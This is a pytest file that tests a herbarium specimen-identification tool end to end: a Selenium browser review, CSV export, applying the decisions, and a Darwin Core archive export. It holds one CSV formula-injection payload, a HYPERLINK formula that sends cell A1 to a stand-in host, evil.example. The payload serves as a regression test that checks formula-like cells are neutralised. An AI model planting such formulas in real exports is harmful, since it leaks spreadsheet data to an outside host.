"""The herbarium walk-through in a real browser: TIFF scans in barcode-named folders are
identified, a botanist reviews the report in headless Chromium (Selenium, Debian's
chromium-driver), exports the decisions, `review apply` writes them into the records and
`export dwca` publishes an archive that python-dwca-reader reads back (issue 15, "Done means").
"""

from __future__ import annotations

import csv
import io
import json
import shutil
import zipfile
from pathlib import Path

import pytest
from conftest import run_plantid
from scans import green_tiff

CHROMEDRIVER = shutil.which("chromedriver") or (
    "/usr/bin/chromedriver" if Path("/usr/bin/chromedriver").exists() else None
)
CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
needs_browser = pytest.mark.skipif(
    CHROMEDRIVER is None or CHROMIUM is None,
    reason="chromium and chromium-driver not installed (.ci/run installs both)",
)
BARCODES = ("K000123456", "LE01234567", "LE01234568")


def _scans(root: Path) -> Path:
    """Three specimen folders named by barcode; the first holds two sheets (front and label)."""
    for n, barcode in enumerate(BARCODES):
        for page in range(2 if n == 0 else 1):
            green_tiff(root / barcode / f"{barcode}_{page}.tif", seed=n * 10 + page)
    return root


def _driver(tmp_path: Path):
    from selenium import webdriver
    from selenium.webdriver.chrome.service import Service

    options = webdriver.ChromeOptions()
    options.binary_location = CHROMIUM
    for flag in (
        "--headless",
        "--no-sandbox",
        "--disable-gpu",
        "--disable-background-networking",
        "--disable-component-update",
        "--no-first-run",
        "--disable-sync",
        "--disable-dev-shm-usage",
        f"--user-data-dir={tmp_path / 'chromium-profile'}",
    ):
        options.add_argument(flag)
    downloads = tmp_path / "downloads"
    downloads.mkdir()
    options.add_experimental_option(
        "prefs",
        {"download.default_directory": str(downloads), "download.prompt_for_download": False},
    )
    driver = webdriver.Chrome(service=Service(CHROMEDRIVER), options=options)
    driver.set_page_load_timeout(60)
    return driver, downloads


def _card(driver, sha256: str):
    from selenium.webdriver.common.by import By

    return driver.find_element(By.CSS_SELECTOR, f'article[data-sha="{sha256}"]')


#: A remark a spreadsheet would run as a formula (red team, session 19: the export left it live).
REMARK = '=HYPERLINK("http://evil.example/?x="&A1,"a fern, not this")'


@needs_browser
def test_review_in_chromium_then_apply_then_dwca(tmp_path, sandbox, cli_env):
    from selenium.webdriver.common.by import By
    from selenium.webdriver.common.keys import Keys
    from selenium.webdriver.support.ui import WebDriverWait

    scans = _scans(tmp_path / "scans")
    report = tmp_path / "report.html"
    run = run_plantid(
        ["identify", scans, "--group-by", "folder", "--catalog-number", r"[A-Z]{1,4}\d{6,9}",
         "--report", report, "-f", "ndjson"],
        cli_env,
    )  # fmt: skip
    assert run.returncode == 0, run.stderr
    (tmp_path / "results.ndjson").write_text(run.stdout)
    records = [json.loads(line) for line in run.stdout.splitlines()]
    by_number = {r["catalog_number"]: r for r in records}
    assert sorted(by_number) == sorted(BARCODES)
    first, second, third = (by_number[b] for b in BARCODES)
    # a name the service did offer for the third specimen, other than its best one
    correction = next(
        s["scientific_name"]
        for s in third["suggestions"]
        if s["scientific_name"] != third["best"]["scientific_name"]
    )

    driver, downloads = _driver(tmp_path)
    try:
        driver.get(report.resolve().as_uri())
        assert driver.find_element(By.CSS_SELECTOR, "h1 small").text == "3 specimens · 4 photos"
        titles = [e.text for e in driver.find_elements(By.CSS_SELECTOR, ".specimen .catno")]
        assert sorted(titles) == sorted(BARCODES)
        reviewer = driver.find_element(By.ID, "rv-by")
        reviewer.send_keys("A. Botanist", Keys.TAB)  # change event: remembered
        # accept the first card with its button
        _card(driver, first["sha256"]).find_element(By.CSS_SELECTOR, ".rv-accept").click()
        # reject the second from the keyboard: focus it, then r
        body = driver.find_element(By.TAG_NAME, "body")
        _card(driver, second["sha256"]).find_element(By.CSS_SELECTOR, ".rv-remarks").send_keys(
            REMARK
        )
        _card(driver, second["sha256"]).click()
        body.send_keys("r")
        # correct the third: c, type the name, Enter
        _card(driver, third["sha256"]).click()
        body.send_keys("c")
        name_box = _card(driver, third["sha256"]).find_element(By.CSS_SELECTOR, ".rv-name")
        name_box.send_keys(Keys.CONTROL, "a")
        name_box.send_keys(correction, Keys.ENTER)
        WebDriverWait(driver, 30).until(lambda d: body.get_attribute("data-reviewed") == "3")
        states = {
            r["sha256"]: _card(driver, r["sha256"]).get_attribute("data-review")
            for r in (first, second, third)
        }
        assert states == {
            first["sha256"]: "accepted",
            second["sha256"]: "rejected",
            third["sha256"]: "corrected",
        }
        # kept across a reload (localStorage), reviewer name too
        driver.refresh()
        body = driver.find_element(By.TAG_NAME, "body")
        WebDriverWait(driver, 30).until(lambda d: body.get_attribute("data-reviewed") == "3")
        assert driver.find_element(By.ID, "rv-by").get_attribute("value") == "A. Botanist"
        body.send_keys("e")  # export
        WebDriverWait(driver, 30).until(lambda d: body.get_attribute("data-exported") == "3")
        exported = driver.find_element(By.ID, "rv-csv").get_attribute("value")
    finally:
        driver.quit()

    rows = list(csv.DictReader(io.StringIO(exported)))
    assert list(rows[0]) == ["sha256", "decision", "scientific_name", "identified_by", "remarks"]
    decisions = {row["sha256"]: row for row in rows}
    assert decisions[first["sha256"]]["decision"] == "accepted"
    assert decisions[first["sha256"]]["scientific_name"] == first["best"]["scientific_name"]
    # a formula-like cell leaves the page as text (session 19: it left as a live formula)
    assert decisions[second["sha256"]]["remarks"] == "'" + REMARK
    assert decisions[third["sha256"]]["scientific_name"] == correction
    assert {row["identified_by"] for row in rows} == {"A. Botanist"}
    downloaded = downloads / "decisions.csv"
    if downloaded.exists():  # the Blob download landed too: the same rows (a text box's value
        assert downloaded.read_text().splitlines() == exported.splitlines()  # has \n for \r\n)

    decisions_file = tmp_path / "decisions.csv"
    decisions_file.write_text(exported)
    applied = run_plantid(
        ["review", "apply", decisions_file, tmp_path / "results.ndjson",
         "-o", tmp_path / "reviewed.ndjson"],
        cli_env,
    )  # fmt: skip
    assert applied.returncode == 0, applied.stderr
    reviewed = {
        r["catalog_number"]: r
        for r in map(json.loads, (tmp_path / "reviewed.ndjson").read_text().splitlines())
    }
    assert reviewed[BARCODES[0]]["verification"]["decision"] == "accepted"
    assert reviewed[BARCODES[1]]["verification"]["decision"] == "rejected"
    assert reviewed[BARCODES[1]]["verification"]["remarks"] == REMARK  # the mark taken off
    assert reviewed[BARCODES[2]]["verification"]["scientific_name"] == correction
    assert reviewed[BARCODES[2]]["verification"]["by"] == "A. Botanist"

    archive = tmp_path / "specimens.zip"
    exported_dwca = run_plantid(
        ["export", "dwca", tmp_path / "reviewed.ndjson", "-o", archive,
         "--title", "LE scans 2026", "--creator", "Herbarium LE"],
        cli_env,
    )  # fmt: skip
    assert exported_dwca.returncode == 0, exported_dwca.stderr
    _check_archive(archive, first, second, third, correction)


def _check_archive(archive: Path, first, second, third, correction: str) -> None:
    from dwca.read import DwCAReader

    dwc = "http://rs.tdwg.org/dwc/terms/"
    with DwCAReader(str(archive)) as dwca:
        assert dwca.descriptor.core.type == dwc + "Occurrence"
        rows = {row.data[dwc + "catalogNumber"]: row for row in dwca}
        assert sorted(rows) == sorted(BARCODES)
        accepted, rejected, corrected = (rows[b] for b in BARCODES)
        assert accepted.data[dwc + "scientificName"].startswith(first["best"]["scientific_name"])
        assert accepted.data[dwc + "identificationVerificationStatus"] == "verified"
        assert accepted.data[dwc + "identifiedBy"] == "A. Botanist"
        assert rejected.data[dwc + "scientificName"] == ""
        assert rejected.data[dwc + "identificationVerificationStatus"] == ""
        assert corrected.data[dwc + "scientificName"].startswith(correction)
        assert corrected.data[dwc + "identificationVerificationStatus"] == "verified"
        identifier = "http://purl.org/dc/terms/identifier"
        media = {b: [e.data[identifier] for e in rows[b].extensions] for b in BARCODES}
        photos = {b: len(r["paths"]) for b, r in zip(BARCODES, (first, second, third), strict=True)}
        assert (
            {b: len(m) for b, m in media.items()}
            == photos
            == {BARCODES[0]: 2, BARCODES[1]: 1, BARCODES[2]: 1}
        )
        assert all(path.endswith(".tif") for paths in media.values() for path in paths)
    with zipfile.ZipFile(archive) as z:
        eml = z.read("eml.xml").decode()
    assert "LE scans 2026" in eml and "Herbarium LE" in eml
